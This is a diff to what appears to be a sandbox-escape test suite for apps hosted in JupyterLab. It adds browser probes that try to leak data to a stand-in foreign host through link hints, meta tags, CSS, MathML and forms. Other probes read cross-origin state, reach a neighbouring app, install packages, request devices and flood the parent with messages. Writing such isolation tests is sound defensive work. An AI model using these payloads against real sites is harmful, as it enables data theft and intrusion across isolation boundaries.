@@ -344,6 +344,90 @@ const ATTACKS = {
     await element('iframe', { srcdoc: `<script>onpagehide=()=>{navigator.sendBeacon('${foreign}pagehide');fetch('${foreign}pagehide-keepalive',{keepalive:true,mode:'no-cors'})}</scr` + 'ipt>' });
     document.querySelectorAll('iframe[srcdoc*=onpagehide]').forEach(one => one.remove()); await sleep(300); return 'tried';
   },
+  // ---------------------------------------------------------------------------------------- what browsers have beside that
+  'window.name': () => window.name ? 'READ ' + window.name : fail(),
+  'referrer': () => document.referrer && !document.referrer.startsWith(location.href.replace(/[^/]*$/, '')) ? 'READ ' + document.referrer : fail(),
+  'names in the timing of pages': () => {
+    const foreign = performance.getEntries().filter(({ name }) => /^https?:/.test(name) && !name.startsWith(location.href.replace(/[^/]*$/, '')));
+    return foreign.some(({ responseStatus, transferSize }) => responseStatus || transferSize) ? 'READ ' + JSON.stringify(foreign[0]) : 'nothing';
+  },
+  'timing of the parent': () => 'READ ' + parent.performance.now(),
+  'hints of every kind': async () => {
+    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'modulepreload', 'preload', 'monetization', 'manifest', 'author', 'expect', 'mask-icon', 'privacy-policy']) {
+      for (const href of [foreign + 'hint-' + rel, jupyter + 'api/status?' + rel]) {
+        const made = document.createElement('link'); Object.assign(made, { rel, href, as: rel === 'preload' ? 'image' : 'script' }); document.head.append(made);
+      }
+    }
+    await sleep(500); return 'tried';
+  },
+  'policies by meta': async () => {
+    for (const [name, content] of [['accept-ch', 'sec-ch-ua-model'], ['delegate-ch', 'sec-ch-ua-model ' + foreign], ['x-dns-prefetch-control', 'on'], ['origin-trial', 'x'],
+      ['referrer', 'unsafe-url'], ['Clear-Site-Data', '"*"'], ['Link', `<${foreign}meta-link>; rel=preload; as=image`], ['default-style', 'x']]) {
+      const made = document.createElement('meta'); made.httpEquiv = name; made.name = name; made.content = content; document.head.append(made);
+    }
+    await read(foreign + 'metas', { mode: 'no-cors', referrerPolicy: 'unsafe-url' }).catch(() => null); await sleep(200); return 'tried';
+  },
+  'rules of documents': async () => {
+    const made = document.createElement('script'); made.type = 'speculationrules';
+    made.textContent = JSON.stringify({ prefetch: [{ where: { href_matches: '/*' }, eagerness: 'immediate', requires: ['anonymous-client-ip-when-cross-origin'] }],
+      prerender: [{ where: { href_matches: '/*' }, eagerness: 'immediate', target_hint: '_blank' }] });
+    const link = document.createElement('a'); link.href = jupyter + 'lab?ruled'; link.textContent = 'x';
+    document.body.append(link); document.head.append(made); await sleep(600); link.remove(); return 'tried';
+  },
+  'shadow of markup': async () => {
+    const made = document.createElement('div');
+    const html = `<p><template shadowrootmode="open"><img src="${foreign}shadow"><style>@import url(${foreign}shadow-css)</style></template></p><x-late></x-late>`;
+    made.setHTMLUnsafe ? made.setHTMLUnsafe(html) : made.innerHTML = html; document.body.append(made);
+    customElements.define('x-late', class extends HTMLElement { connectedCallback() { this.innerHTML = `<img src="${foreign}upgraded">`; } });
+    await sleep(300); return 'tried';
+  },
+  'MathML': async () => {
+    const made = document.createElement('div');
+    made.innerHTML = `<math><mrow href="${foreign}math-row" xlink:href="${foreign}math-x"><mi>x</mi></mrow><maction actiontype="statusline" xlink:href="${foreign}math-action"><mi>y</mi></maction><annotation-xml encoding="text/html"><img src="${foreign}math-img"></annotation-xml></math>`;
+    document.body.append(made); await sleep(200); return 'tried';
+  },
+  'style sheets of other kinds': async () => {
+    styled(`@property --p{syntax:'<url>';inherits:false;initial-value:url(${foreign}property)} @counter-style c{system:cyclic;symbols:url(${foreign}counter)} @font-palette-values --a{}
+      @import url(${foreign}layered) layer(x) supports(display:grid); @supports (background:url(${foreign}supports)){p{background:url(${foreign}supported)}} p::marker{content:url(${foreign}marker)}
+      @view-transition{navigation:auto} @document url(${foreign}){p{}} p{background:src("${foreign}src");-moz-binding:url(${foreign}binding);behavior:url(${foreign}behavior)}`);
+    await sleep(300); return 'tried';
+  },
+  'shared memory': () => { const made = new SharedArrayBuffer(8); return crossOriginIsolated ? 'READ isolated ' + made.byteLength : 'nothing'; },
+  'a socket of a neighbour': () => socket(location.href.replace(APP, 'neighbour').replace(/[^/]*$/, '') + 'ws'),
+  'events of a neighbour': () => new Promise((done, failed) => {
+    const made = new EventSource(location.href.replace(APP, 'neighbour').replace(/[^/]*$/, '') + 'events'); made.onopen = () => done('OPENED'); made.onerror = () => failed(new Error('refused'));
+  }),
+  'its visitors and publications': () => gives('../../../api/publications'),
+  'its own packages': () => platform('../../../../api/apps/' + APP + '/install', { method: 'POST', body: '{"names":["x"]}' }).then(({ status }) => status < 400 ? 'RAN' : 'STATUS ' + status),
+  'devices': async () => {
+    const asks = { gamepad: () => navigator.getGamepads().filter(one => one), bluetooth: () => navigator.bluetooth.getDevices(), usb: () => navigator.usb.getDevices(), hid: () => navigator.hid.getDevices(),
+      serial: () => navigator.serial.getPorts(), midi: () => navigator.requestMIDIAccess(), sensors: () => new Accelerometer().start(), idle: () => new IdleDetector().start(),
+      media: () => navigator.mediaDevices.getUserMedia({ audio: true }), screen: () => navigator.mediaDevices.getDisplayMedia(), fonts: () => queryLocalFonts(), screens: () => getScreenDetails(),
+      nfc: () => new NDEFReader().scan(), contacts: () => navigator.contacts.select(['name']), place: () => new Promise((done, failed) => navigator.geolocation.getCurrentPosition(done, failed)),
+      passkey: () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8) } }), speech: () => new Promise((done, failed) => { const made = new webkitSpeechRecognition(); made.onstart = done; made.onerror = failed; made.start(); }) };
+    const got = await Promise.all(Object.entries(asks).map(async ([name, ask]) => {
+      try { const found = await Promise.race([ask(), sleep(500).then(() => null)]); return found && (found.length === undefined || found.length) ? name : ''; } catch { return ''; }
+    }));
+    return got.some(Boolean) ? 'OPENED ' + got.filter(Boolean) : 'nothing';
+  },
+  'a flood of messages': async () => {
+    const large = 'x'.repeat(10000);
+    for (let index = 0; index < 5000; index++) { parent.postMessage({ townie: 1, app: APP, event: 'document', large }, '*'); top.postMessage({ townie: 1, hello: large }, '*'); }
+    await sleep(100); return 'tried';
+  },
+  'copied by command': async () => { document.execCommand('paste'); document.execCommand('copy'); return document.queryCommandEnabled?.('paste') ? 'READ by paste' : 'nothing'; },
+  'asked before leaving': async () => { addEventListener('beforeunload', event => { event.preventDefault(); event.returnValue = 'stay'; }); return 'tried'; },
+  'odd answers of a backend': async () => {
+    for (const name of ['parts', 'parts-of-a-list', 'parts-of-two', 'attached', 'odd']) {
+      await element('img', { src: name }); await element('iframe', { src: name }); await read(name).catch(() => null);
+      await element('script', { src: name }); await element('link', { rel: 'stylesheet', href: name }); await element('video', { src: name }); await element('object', { data: name });
+    }
+    return 'tried';
+  },
+  'methods of proxies': async () => {
+    for (const method of ['TRACE', 'TRACK', 'CONNECT', 'PURGE', 'MKCOL', 'foo']) await read('x', { method }).catch(() => null);
+    return 'tried';
+  },
   // ------------------------------------------------------------------------------------------ what Townie gives to apps
   'another app by ATTACH': () => query("ATTACH '../../neighbour/data/app.sqlite' AS other"),
   'another app by one ATTACH of many': () => query("SELECT 1; ATTACH 'file:../../neighbour/data/app.sqlite?mode=ro' AS other; SELECT * FROM other.t"),
@@ -418,6 +502,14 @@ const NAVIGATIONS = {
   },
   'download of a foreign file': () => { const made = document.createElement('a'); made.href = foreign + 'download'; made.download = 'x'; document.body.append(made); made.click(); },
   'self by an XSLT document': () => { location.href = 'styled.xml'; },
+  'self by a PDF': () => { location.href = 'printed.pdf'; },
+  'self by MathML': () => {
+    const made = document.createElement('div'); made.innerHTML = `<math><mrow href="${foreign}math"><mi>x</mi></mrow></math>`; document.body.append(made);
+    made.querySelector('mrow').dispatchEvent(new MouseEvent('click', { bubbles: true }));
+  },
+  'self to a download': () => { location.href = URL.createObjectURL(new Blob(['x'], { type: 'application/octet-stream' })); },
+  'self by a form of dialogs': () => { form({ action: foreign + 'multipart', method: 'post', enctype: 'multipart/form-data' }, { _charset_: '' }); },
+  'self by the login': () => { location.href = jupyter + 'login?next=' + encodeURIComponent(foreign); },
   'self by SVG': () => { location.href = 'drawn.svg'; },
   'back to JupyterLab': () => { history.back(); },
   'back by far': () => { history.go(-3); },
@@ -440,7 +532,7 @@ const CLICKED = {
   },
   'view source': async () => { window.open('view-source:' + jupyter + 'lab'); await sleep(100); return 'tried'; }
 };
-for (const name of ['popup', 'popup logout', 'form to a popup', 'form to the top', 'link to the top', 'top.location', 'storage access', 'clipboard',
+for (const name of ['devices', 'copied by command', 'shared memory', 'popup', 'popup logout', 'form to a popup', 'form to the top', 'link to the top', 'top.location', 'storage access', 'clipboard',
   'whole screen', 'pointer lock', 'keyboard lock', 'files of the person', 'notification', 'federated sign-in']) CLICKED[name] = ATTACKS[name];
 window.clicks = Object.keys(CLICKED);
 window.armed = name => new Promise(done => document.addEventListener('click', async () => {
